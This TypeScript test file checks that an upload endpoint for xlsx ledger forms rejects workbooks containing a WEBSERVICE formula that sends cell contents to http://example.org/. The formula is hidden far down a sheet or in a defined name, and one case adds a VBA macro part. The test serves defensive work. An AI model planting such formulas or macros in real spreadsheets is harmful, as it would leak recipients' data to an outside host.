import PizZip from 'pizzip'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { bodyOf, type TestOffice, testOffice } from '../../testing/office.ts'
import { officeForm } from '../../testing/workbook/office-form.ts'

let office: TestOffice
beforeAll(async () => {
  office = await testOffice()
})
afterAll(() => office?.dispose())

const send = async (post: string, change: (zip: PizZip) => void) => {
  const zip = new PizZip(await officeForm({ rooms: 2 }))
  change(zip)
  return (await office.as(post))('/api/ledger-forms?procedure=report', {
    method: 'POST',
    body: zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }) as Buffer<ArrayBuffer>,
    headers: { 'x-file-name': encodeURIComponent('本局台账.xlsx') },
  })
}
const CALL = '<row r="90"><c r="C90"><f>WEBSERVICE("http://example.org/?"&amp;C4)</f></c></row></sheetData>'
const inPart = (name: string, from: string | RegExp, to: string) => (zip: PizZip) => {
  const xml = zip.file(name)?.asText() ?? ''
  expect(xml.replace(from, to), name).not.toBe(xml)
  zip.file(name, xml.replace(from, to))
}

test.each<[string, (zip: PizZip) => void]>([
  [
    'a formula far behind what is looked at for headings',
    inPart(
      'xl/worksheets/sheet2.xml',
      '</sheetData>',
      `${'<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(20_000)}${CALL.replace(/ r="\w+"/g, '')}`,
    ),
  ],
  ['a formula far below', inPart('xl/worksheets/sheet1.xml', '</sheetData>', CALL)],
  [
    'a formula of a name',
    inPart(
      'xl/workbook.xml',
      /<sheets>.*<\/sheets>/,
      '$&<definedNames><definedName name="x">WEBSERVICE("http://example.org/?"&amp;A4)</definedName></definedNames>',
    ),
  ],
  [
    'macros',
    (zip: PizZip) =>
      void inPart(
        'xl/_rels/workbook.xml.rels',
        '</Relationships>',
        '<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
      )(zip.file('xl/vbaProject.bin', 'x')),
  ],
])('a form with %s is not kept, since everybody of the unit would get it', async (_, change) => {
  const answer = await send('clerk', change)
  expect(answer.status, JSON.stringify(await bodyOf(answer))).toBe(422)
})
